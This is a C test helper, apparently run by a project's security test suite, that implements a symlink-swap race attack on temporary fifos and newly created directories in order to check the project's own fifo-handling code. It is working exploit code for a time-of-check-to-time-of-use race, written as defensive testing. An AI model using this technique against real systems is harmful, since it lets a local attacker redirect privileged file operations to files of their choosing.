/* The swapped-fifo attack, as the owner of a directory (built and run as uid 65534 by
   tests/security.rs). Our own code, after the idea in the attack review.

   swapper fifo DIR TARGET: whenever a name starting with ".ftrig1" appears in DIR (a
     listener's temporary fifo), rename a symlink to TARGET over it.
   swapper dir DIR TARGET: whenever a directory appears in DIR, rename it away and put
     a symlink to TARGET in its place (npt-mkfifodir's mkdir-then-chmod window).

   Prints "ready" once the watch is in place, then one "swapped NAME" line per swap. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "watch.h"

int main(int argc, char **argv) {
  if (argc != 4) return 100;
  int dirmode = !strcmp(argv[1], "dir");
  const char *dir = argv[2], *target = argv[3];
  int fd = watch_creates(dir);
  if (fd < 0) return 111;
  char spare[4096], away[4096];
  snprintf(spare, sizeof spare, "%s/zz-spare-link", dir);
  say_ready();
  unsigned long n = 0;
  for (;;) {
    if (symlink(target, spare) < 0 && errno != EEXIST) return 111;
    char buf[16384] __attribute__((aligned(8)));
    ssize_t got = read(fd, buf, sizeof buf);
    if (got <= 0) continue;
    FOR_EACH_EVENT(e, buf, got) {
      if (!e->len) continue;
      char name[4096];
      snprintf(name, sizeof name, "%s/%s", dir, e->name);
      if (dirmode) {
        if (!(e->mask & IN_ISDIR) || !strncmp(e->name, "zz-", 3)) continue;
        snprintf(away, sizeof away, "%s/zz-away-%lu", dir, n);
        if (rename(name, away) < 0) continue;
      } else if (strncmp(e->name, ".ftrig1", 7)) {
        continue;
      }
      if (rename(spare, name) == 0) printf("swapped %s %lu\n", e->name, ++n);
    }
  }
}
